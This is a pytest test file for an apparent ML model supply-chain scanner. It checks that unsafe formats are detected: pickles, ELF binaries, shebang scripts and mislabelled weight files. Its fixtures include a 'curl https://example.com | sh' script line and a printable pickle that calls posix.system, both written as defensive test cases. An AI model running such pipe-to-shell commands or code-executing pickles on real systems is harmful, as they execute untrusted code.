"""The format check: what a file is from its bytes, and whether loading it can run code."""

from __future__ import annotations

import random
import struct
from typing import TYPE_CHECKING

import pytest

from pytest_mlsupply.results import Severity, Verdict
from tests.conftest import write_pickle_payload

if TYPE_CHECKING:
    from tests.checks.conftest import Pipeline

ELF_HEADER = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 56


def test_clean_safetensors_weights_have_no_findings(pipeline: Pipeline) -> None:
    result = pipeline.result("artifact[tiny/model.safetensors::format]")

    assert result.findings == []
    assert result.error is None
    assert result.facts["format"] == "safetensors"
    assert result.facts["family"] == "safetensors"
    assert result.verdict(Severity.LOW) is Verdict.PASS


def test_config_and_card_are_recognised_as_json_and_text(pipeline: Pipeline) -> None:
    config = pipeline.result("artifact[tiny/config.json::format]")
    card = pipeline.result("artifact[tiny/README.md::format]")

    assert (config.facts["format"], config.findings) == ("json", [])
    assert (card.facts["format"], card.findings) == ("text", [])


def test_a_pickle_is_an_unsafe_format_of_high_severity(pipeline: Pipeline) -> None:
    write_pickle_payload(pipeline.model_dir / "extra.pkl")

    result = pipeline.result("artifact[tiny/extra.pkl::format]")

    (finding,) = result.findings
    assert (finding.rule, finding.severity, finding.cwe) == (
        "MLS-FMT-001",
        Severity.HIGH,
        "CWE-502",
    )
    assert finding.category == "unsafe-format"
    assert "os.system" in finding.evidence
    assert "safetensors" in finding.remediation
    assert result.facts["family"] == "pickle"
    assert result.verdict(Severity.HIGH) is Verdict.FAIL
    assert result.verdict(Severity.CRITICAL) is Verdict.WARN


def test_an_elf_binary_in_a_model_directory_is_critical(pipeline: Pipeline) -> None:
    (pipeline.model_dir / "helper").write_bytes(ELF_HEADER)

    result = pipeline.result("artifact[tiny/helper::format]")

    (finding,) = result.findings
    assert (finding.rule, finding.severity, finding.cwe) == (
        "MLS-FMT-001",
        Severity.CRITICAL,
        "CWE-506",
    )
    assert result.facts["family"] == "executable"
    assert result.verdict(Severity.CRITICAL) is Verdict.FAIL


def test_a_shebang_script_in_a_model_directory_is_critical(pipeline: Pipeline) -> None:
    (pipeline.model_dir / "setup.sh").write_text("#!/bin/sh\ncurl https://example.com | sh\n")

    result = pipeline.result("artifact[tiny/setup.sh::format]")

    (finding,) = result.findings
    assert (finding.rule, finding.severity) == ("MLS-FMT-001", Severity.CRITICAL)
    assert result.facts["family"] == "script"


def test_a_pickle_named_safetensors_is_a_high_finding_that_says_what_the_loader_does(
    pipeline: Pipeline,
) -> None:
    write_pickle_payload(pipeline.model_dir / "weights.safetensors")

    result = pipeline.result("artifact[tiny/weights.safetensors::format]")

    rules = {f.rule: f for f in result.findings}
    assert sorted(rules) == ["MLS-FMT-001", "MLS-FMT-004"]
    claim = rules["MLS-FMT-004"]
    assert (claim.severity, claim.cwe) == (Severity.HIGH, "CWE-646")
    assert "pickle" in claim.evidence
    assert "safetensors.safe_open" in claim.evidence
    assert "refuses it" in claim.evidence


def test_a_pickle_named_txt_is_a_medium_extension_mismatch(
    pipeline: Pipeline,
) -> None:
    write_pickle_payload(pipeline.model_dir / "notes.txt")

    result = pipeline.result("artifact[tiny/notes.txt::format]")

    rules = {f.rule: f for f in result.findings}
    assert sorted(rules) == ["MLS-FMT-001", "MLS-FMT-002"]
    mismatch = rules["MLS-FMT-002"]
    assert (mismatch.severity, mismatch.cwe) == (Severity.MEDIUM, "CWE-646")
    assert ".txt" in mismatch.evidence
    assert "pickle" in mismatch.evidence


def test_unidentifiable_bytes_are_a_low_finding_that_warns_at_the_default_threshold(
    pipeline: Pipeline,
) -> None:
    (pipeline.model_dir / "blob.bin").write_bytes(random.Random(0).randbytes(4096))

    result = pipeline.result("artifact[tiny/blob.bin::format]")

    (finding,) = result.findings
    assert (finding.rule, finding.severity) == ("MLS-FMT-003", Severity.LOW)
    assert result.facts["format"] == "unknown"
    assert result.verdict(Severity.HIGH) is Verdict.WARN
    assert result.verdict(Severity.LOW) is Verdict.FAIL


def test_a_dangling_symlink_is_an_error_not_a_pass(pipeline: Pipeline) -> None:
    (pipeline.model_dir / "dangling.bin").symlink_to(pipeline.model_dir / "nowhere")

    result = pipeline.result("artifact[tiny/dangling.bin::format]")

    assert result.error is not None
    assert "cannot read" in result.error
    assert result.verdict(Severity.CRITICAL) is Verdict.ERROR


def test_pickle_formats_scan_lowers_the_unsafe_format_finding_to_low(pipeline: Pipeline) -> None:
    write_pickle_payload(pipeline.project.model_dir / "legacy.bin")
    pipeline.manifest(
        "version: 1\npolicy: {pickle_formats: scan}\nmodels: [{name: tiny, path: models/tiny}]\n"
    )
    result = pipeline.result("artifact[tiny/legacy.bin::format]")
    (finding,) = [f for f in result.findings if f.rule == "MLS-FMT-001"]
    assert finding.severity is Severity.LOW
    assert "pickle_formats: scan" in finding.remediation


LFS_POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 9\n"
PRINTABLE_PICKLE = b"I0x1\n0cposix\nsystem\n(S'true'\ntR."


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("weights.safetensors", struct.pack("<Q", 10_000) + b'{"w": {}}', "points past the end"),
        ("weights.safetensors", b"", "zero-byte .safetensors"),
        ("weights.safetensors", LFS_POINTER, "Git LFS pointer"),
        ("model.gguf", b"GGU", "not what .gguf promises"),
        ("model.gguf", b"GGUF" + struct.pack("<IQQ", 3, 1 << 40, 0), "cannot fit in the file"),
        ("model.onnx", b"\xff" * 64, "onnx.load and onnxruntime refuse it"),
        ("model.h5", b"\x00" * 64, "no HDF5 superblock"),
        ("model.keras", b"hello", "must be a zip"),
        ("model.skops", b"hello", "a zip with schema.json is required"),
        ("model.pt", b"not a checkpoint\n", "torch.load reads anything that is not a zip"),
        ("array.npy", PRINTABLE_PICKLE, "numpy.load reads a file without the NUMPY magic"),
        ("array.npy", b"\x93NUMPY\x01\x00\xff\x00{'descr'", "numpy.load refuses the header"),
        ("pytorch_model.bin", b"", "zero-byte .bin"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_weights_file_that_does_not_parse_as_its_name_says_is_high_and_says_what_the_loader_does(
    pipeline: Pipeline, name: str, content: bytes, says: str
) -> None:
    (pipeline.model_dir / name).write_bytes(content)

    result = pipeline.result(f"artifact[tiny/{name}::format]")

    claims = [f for f in result.findings if f.rule == "MLS-FMT-004"]
    assert [f.severity for f in claims] == [Severity.HIGH]
    assert says in claims[0].evidence
    assert not {f.rule for f in result.findings} & {"MLS-FMT-002", "MLS-FMT-003"}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("model.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 0)),
        ("model.h5", b"\x00" * 512 + b"\x89HDF\r\n\x1a\n" + b"\x00" * 64),
        ("notes.bin", b"some text that is not a weights format"),
    ],
)
def test_a_weights_file_that_parses_as_its_name_says_has_no_claim_finding(
    pipeline: Pipeline, name: str, content: bytes
) -> None:
    (pipeline.model_dir / name).write_bytes(content)
    result = pipeline.result(f"artifact[tiny/{name}::format]")
    assert "MLS-FMT-004" not in {f.rule for f in result.findings}
